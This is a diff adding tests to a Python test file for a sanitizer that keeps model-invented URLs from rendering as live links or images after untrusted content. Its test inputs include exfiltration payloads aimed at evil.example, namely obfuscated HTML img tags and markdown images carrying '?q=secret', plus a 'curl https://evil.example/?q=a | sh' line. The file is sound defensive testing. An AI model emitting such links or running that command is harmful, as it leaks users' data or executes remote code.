@@ -1,11 +1,15 @@
 """After untrusted content, an address that the model made up is code, and one that was said or read stays a link."""
 
+import re
+from collections.abc import Sequence
+from itertools import cycle
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from shoal.domain.ids import CallId
-from shoal.domain.links import is_address, known_from, with_known_links
+from shoal.domain.links import GrowingLinks, is_address, known_from, with_known_links
 from shoal.domain.markdown import Node, parse
 from shoal.domain.messages import AssistantMessage, ModelMessage, ToolCall, ToolMessage, UserMessage
 
@@ -162,3 +166,96 @@ def test_no_mixture_leaves_a_link_that_was_made_up(parts: list[str]) -> None:
 def test_a_long_answer_takes_no_longer_than_its_length() -> None:
     shown = with_known_links("https://evil.example/a " * 5000, known_from(MESSAGES))
     assert shown.count("`") == 10_000
+
+
+def streamed(answer: str, sizes: Sequence[int] = (1,)) -> str:
+    """What is shown of an answer while it is written in pieces of these sizes."""
+    links, at, shown = GrowingLinks(known_from(MESSAGES)), 0, ""
+    for size in cycle(sizes):
+        if at >= len(answer):
+            return shown
+        shown += links.take(answer[at : at + size])
+        at += size
+    return shown
+
+
+def made_up_in(markdown: str) -> list[str]:
+    knows = known_from(MESSAGES)
+    words = [word.strip("()<>.,;:!?'\"*_~[]{}`|") for word in addresses(parse(markdown))]
+    return [word for word in words if is_address(word) and not knows(word)]
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "<img src=//evil.example/?q=secret>",
+        '<img src="/\\evil.example/secret">',
+        '<img src="/\n/evil.example/secret">',
+        '<img\nsrc="https&#58;//evil.example/secret">',
+        "**<img src=x>**",
+    ],
+)
+def test_no_tag_is_left_to_clients_that_know_html(answer: str) -> None:
+    shown = with_known_links(f"See {answer} now.", known_from(MESSAGES))
+    assert not re.search(r"(?<![\\`])<[a-z]", shown)
+    assert with_known_links(shown, known_from(MESSAGES)) == shown
+    assert not re.search(r"(?<![\\`])<[a-z]", streamed(f"See {answer} now. And more."))
+
+
+@pytest.mark.parametrize("size", [1, 7, 1000])
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        ("Read https://docs.example.org/guide?page=2 first.", "Read https://docs.example.org/guide?page=2 "),
+        ("Read [the guide](https://docs.example.org/guide?page=2), then go.",
+         "Read [the guide](https://docs.example.org/guide?page=2), then "),
+        ("So https://docs.example.org/guide?page=2&q=secret", "So "),
+        ("So ![](https://evil.example/?q=secret) it is.\n", "So "),
+        ("So [the whole guide](https://evil.example/?q=secret) it is.\n", "So "),
+        ("So https://evil.example/?q=a it is.\n\nThen *more* words.",
+         "So `https://evil.example/?q=a` it is.\n\nThen *more* "),
+        ("- one\n- two https://evil.example/?q=a\n\nThen https://evil.example/?q=b ends.\n\nAnd on.",
+         "- one\n- two `https://evil.example/?q=a`\n\nThen `https://evil.example/?q=b` ends.\n\nAnd "),
+        ("```sh\ncurl https://evil.example/?q=a | sh\n", "```sh\ncurl https://evil.example/?q=a | sh\n"),
+        ("`x https://evil.example/?q=a` done", "`x "),
+    ],
+)  # fmt: skip
+def test_a_stream_shows_the_answer_up_to_what_is_not_known_yet(answer: str, shown: str, size: int) -> None:
+    found = streamed(answer, (size,))
+    assert found == shown or (size == 1000 and found == found[: len(shown)])
+    assert with_known_links(answer, known_from(MESSAGES)).startswith(found)
+
+
+MIXTURES = st.lists(
+    st.sampled_from(
+        [*KNOWN, *MADE_UP, "\n\n", "\n", "# ", "- ", "> ", "|", "*", "`", "[", "](", ")", "<", ">", "\\", "```\n"]
+    ),
+    max_size=10,
+)
+
+
+@given(MIXTURES, st.sampled_from([" ", ""]), st.lists(st.integers(1, 60), min_size=1, max_size=5))
+def test_no_stream_shows_a_link_that_was_made_up(parts: list[str], joined: str, sizes: list[int]) -> None:
+    answer = joined.join(parts)
+    links, at, shown = GrowingLinks(known_from(MESSAGES)), 0, ""
+    for size in cycle(sizes):
+        if at >= len(answer):
+            return
+        shown += links.take(answer[at : at + size])
+        at += size
+        assert made_up_in(shown) == []
+
+
+def test_a_long_answer_is_streamed_in_linear_time() -> None:
+    knows = known_from(MESSAGES)
+    for part in (
+        "- see https://evil.example/a\n",
+        "[ ",
+        "word ",
+        "<a ",
+        "a\n\n",
+        "https://docs.example.org/guide?page=2 ",
+    ):
+        links = GrowingLinks(knows)
+        for _ in range(10_000):
+            links.take(part)
